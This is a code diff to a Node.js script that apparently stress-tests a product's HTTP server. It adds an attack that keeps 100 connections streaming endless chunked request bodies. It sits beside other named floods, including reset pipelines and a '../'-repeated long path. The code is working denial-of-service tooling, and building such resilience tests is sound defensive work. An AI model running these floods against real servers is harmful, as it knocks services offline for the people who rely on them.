@@ -1,5 +1,6 @@
 // One sender that tries to take what is meant for all, from one network address, until it is stopped.
 // Arguments: address of the product, name of an attack.
+import { setMaxListeners } from 'node:events';
 import net from 'node:net';
 import { setTimeout as pause } from 'node:timers/promises';
 
@@ -95,6 +96,32 @@ const UNKNOWN_FILE = get('/x.php');
 const HEAD = 'HEAD /home HTTP/1.1\r\nHost: localhost\r\n\r\n';
 const LONG_PATH = get(`/assets/${'../'.repeat(5000)}.php`);
 
+const UPLOADING = 100;
+const CHUNK = `10000\r\n${'x'.repeat(0x1_00_00)}\r\n`;
+const ENDLESS = 'POST /nothing HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n';
+
+/** Sends a body without an end until the connection is lost, then another one. @param {AbortSignal} stopped */
+async function upload(stopped) {
+  while (!stopped.aborted) {
+    const socket = send(ENDLESS).resume();
+    const feed = () => {
+      while (!stopped.aborted && socket.writable && socket.write(CHUNK));
+    };
+    socket.on('drain', feed);
+    feed();
+    await new Promise((resolve) => {
+      socket.once('close', resolve);
+      stopped.addEventListener('abort', () => socket.destroy());
+    });
+  }
+}
+
+async function endlessBodies() {
+  const stopped = AbortSignal.timeout(KEPT_MS);
+  setMaxListeners(0, stopped);
+  await Promise.all(Array.from({ length: UPLOADING }, () => upload(stopped)));
+}
+
 /** @type {Record<string, () => Promise<void>>} */
 const ATTACKS = {
   'reset pipelines': resetPipelines,
@@ -110,6 +137,7 @@ const ATTACKS = {
   'unknown files and reconnecting': kept(UNKNOWN_FILE, { reconnecting: RECONNECTING }),
   'HEAD and reconnecting': kept(HEAD, { reconnecting: RECONNECTING }),
   'long paths on 250 kept connections': kept(LONG_PATH),
+  '100 bodies without an end': endlessBodies,
 };
 
 const attack = ATTACKS[name];
